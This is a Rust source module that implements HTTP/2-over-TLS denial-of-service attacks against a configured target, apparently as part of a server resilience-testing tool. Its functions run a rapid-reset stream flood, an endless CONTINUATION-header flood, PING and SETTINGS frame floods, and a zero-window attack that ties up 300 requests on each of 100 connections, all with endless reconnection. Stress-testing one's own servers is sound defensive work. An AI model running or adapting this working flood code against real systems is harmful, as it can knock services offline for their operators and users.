//! Attacks with frames of HTTP/2, over TLS.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_rustls::client::TlsStream;

use super::target::Aim;
use crate::hostile::{self, frame};

/// A connection that has begun HTTP/2, however often it must be tried.
async fn begin(aim: &Aim, settings: &[(u16, u32)]) -> TlsStream<TcpStream> {
    let tls = aim.tls.as_ref().expect("it is over TLS");
    loop {
        match tls.begin(aim.address, settings).await {
            Ok(stream) => return stream,
            // Why a pause: what fails at once would keep the thread.
            Err(_) => tokio::time::sleep(Duration::from_millis(10)).await,
        }
    }
}

/// Begins HTTP/2 on `n` connections and writes what `next` gives for each round until the server closes
/// it, then again. What one round gives is counted as `of_round`.
fn flood(aim: &Aim, tasks: &mut JoinSet<()>, n: usize, of_round: u64, next: fn(u32) -> Vec<u8>) {
    for _ in 0..n {
        let aim = aim.clone();
        tasks.spawn(async move {
            loop {
                let mut stream = begin(&aim, &[]).await;
                for number in 0.. {
                    if stream.write_all(&next(number)).await.is_err() {
                        break;
                    }
                    aim.done.add(of_round);
                }
            }
        });
    }
}

pub(crate) fn resets(aim: &Aim, tasks: &mut JoinSet<()>) {
    flood(aim, tasks, 16, 1, |number| hostile::reset(number % 1_000_000 * 2 + 1, "/v3/me"));
}

pub(crate) fn endless_heads(aim: &Aim, tasks: &mut JoinSet<()>) {
    flood(aim, tasks, 16, 1, |number| match number {
        0 => frame(hostile::HEADERS, hostile::END_STREAM, 1, &hostile::get("/v3/me")),
        _ => {
            let more = [&[0, 1, b'a', 0x7f, 0x81, 0x3f], "x".repeat(8192).as_bytes()].concat();
            frame(hostile::CONTINUATION, 0, 1, &more)
        }
    });
}

pub(crate) fn pings(aim: &Aim, tasks: &mut JoinSet<()>) {
    flood(aim, tasks, 8, 1000, |_| frame(hostile::PING, 0, 0, &[0; 8]).repeat(1000));
    flood(aim, tasks, 8, 1000, |_| frame(hostile::SETTINGS, 0, 0, &[]).repeat(1000));
}

/// Three hundred requests on each of a hundred connections, of which no answer is ever taken.
pub(crate) fn shut_windows(aim: &Aim, tasks: &mut JoinSet<()>) {
    for _ in 0..100 {
        let aim = aim.clone();
        tasks.spawn(async move {
            let mut stream = begin(&aim, &[(hostile::INITIAL_WINDOW_SIZE, 0)]).await;
            let flags = hostile::END_STREAM | hostile::END_HEADERS;
            let get = hostile::get("/docs");
            let requests: Vec<u8> =
                (0..300).flat_map(|n| frame(hostile::HEADERS, flags, n * 2 + 1, &get)).collect();
            if stream.write_all(&requests).await.is_ok() {
                aim.done.add(300);
            }
            std::future::pending::<()>().await;
            drop(stream);
        });
    }
}
